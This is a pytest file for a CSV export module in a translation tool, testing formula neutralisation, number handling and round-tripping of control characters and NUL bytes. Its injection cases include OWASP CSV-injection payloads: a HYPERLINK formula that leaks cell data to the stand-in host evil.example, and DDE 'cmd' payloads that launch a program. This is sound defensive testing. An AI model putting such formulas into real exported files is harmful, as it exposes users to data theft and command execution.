"""What a translated CSV holds when it is opened: formula cells (and headers) neutralised, every
control character and line separator back in its own cell of its own row, NUL bytes kept."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd
import pytest

from glm1m.translation.csv_output import neutralise, write_chunk
from glm1m.translation.table import open_source, read_chunks

# Every character a reader might take as a line break or choke on: C0 controls (NUL included),
# DEL, NEL, and the Unicode line and paragraph separators (str.splitlines breaks at \x0b, \x0c,
# \x1c-\x1e, \x85, U+2028 and U+2029 too).
CONTROLS = [chr(c) for c in range(0x20)] + ["\x7f", "\x85", "\u2028", "\u2029"]


def read_back(path: Path) -> tuple[list[list[str]], list[list[str]]]:
    """The file's rows as Python's csv module and as pandas read them."""
    with path.open(encoding="utf-8-sig", newline="") as f:
        by_csv = list(csv.reader(f))
    frame = pd.read_csv(path, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    return by_csv, [list(frame.columns), *frame.values.tolist()]


def export(path: Path, header: list[str], rows: list[list[str]]) -> tuple[list[list[str]], list[list[str]]]:
    write_chunk(pd.DataFrame(rows, columns=header), path, first=True)
    return read_back(path)


# OWASP's CSV-injection list (=, +, -, @, TAB 0x09, CR 0x0D) and NUL from OWASP ASVS 1.2.10.
@pytest.mark.parametrize("cell", [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "=1+1", "+1+2", "+cmd|' /C calc'!A0", "-2+3",
    "-cmd|' /C calc'!A0", "@SUM(A1:A9)", "\t=1+1", "\tx", "\r=1+1", "\rx", "\x00=1+1",
])
def test_each_formula_start_owasp_lists_is_neutralised_in_cells_and_in_the_header(
        tmp_path: Path, cell: str) -> None:
    by_csv, by_pandas = export(tmp_path / "out.csv", ["id", cell], [["1", cell]])
    assert by_csv == by_pandas == [["id", "'" + cell], ["1", "'" + cell]]


@pytest.mark.parametrize("number", ["-3", "+1.5", "-5", "+86", "-0.25", "-1,234.50", "+1e5", "-12%", "1.5"])
def test_plain_numbers_stay_numbers(tmp_path: Path, number: str) -> None:
    assert neutralise(number) == number
    by_csv, _ = export(tmp_path / "out.csv", ["n"], [[number]])
    assert by_csv == [["n"], [number]]


def test_text_that_only_looks_like_a_number_is_neutralised() -> None:
    assert neutralise("-3+cmd") == "'-3+cmd" and neutralise("+1.5.6") == "'+1.5.6"


def write_input(path: Path) -> list[list[str]]:
    """One row per character: inside and at the end of the translated column and of another."""
    rows = [[str(i), f"row {i} a{ch}b{ch}", f"n{ch}m{ch}"] for i, ch in enumerate(CONTROLS)]
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows([["id", "text", "note"], *rows])  # as a spreadsheet quotes
    return rows


def test_every_control_character_comes_back_whole_in_its_own_row(tmp_path: Path) -> None:
    rows = write_input(tmp_path / "in.csv")
    source = open_source(tmp_path / "in.csv")
    assert source.column == "text"
    read = [list(r) for chunk in read_chunks(source) for r in chunk.itertuples(index=False)]
    assert read == rows  # the reader kept every cell
    out = tmp_path / "out.csv"
    for n, chunk in enumerate(read_chunks(source)):
        write_chunk(chunk.assign(translation=chunk["text"].str.upper()), out, first=n == 0)
    by_csv, by_pandas = read_back(out)
    expected = [["id", "text", "note", "translation"], *[[*r, r[1].upper()] for r in rows]]
    assert by_csv == expected  # no row split at \r (or anything else), no cell cut
    assert by_pandas == expected


def test_a_nul_byte_keeps_the_whole_cell(tmp_path: Path) -> None:
    # pandas 3.0.6's C parser dropped everything after a NUL in a cell (and in a header).
    path = tmp_path / "in.csv"
    path.write_bytes(b"id,te\x00xt,note\n1,before\x00after,n\x00m\n2,\"quoted\x00too\",x\n")
    source = open_source(path)
    assert source.columns == ("id", "te\x00xt", "note")
    frame = next(read_chunks(source))
    assert frame.values.tolist() == [["1", "before\x00after", "n\x00m"], ["2", "quoted\x00too", "x"]]
    by_csv, by_pandas = export(tmp_path / "out.csv", list(frame.columns), frame.values.tolist())
    assert by_csv == by_pandas == [["id", "te\x00xt", "note"], ["1", "before\x00after", "n\x00m"],
                                   ["2", "quoted\x00too", "x"]]
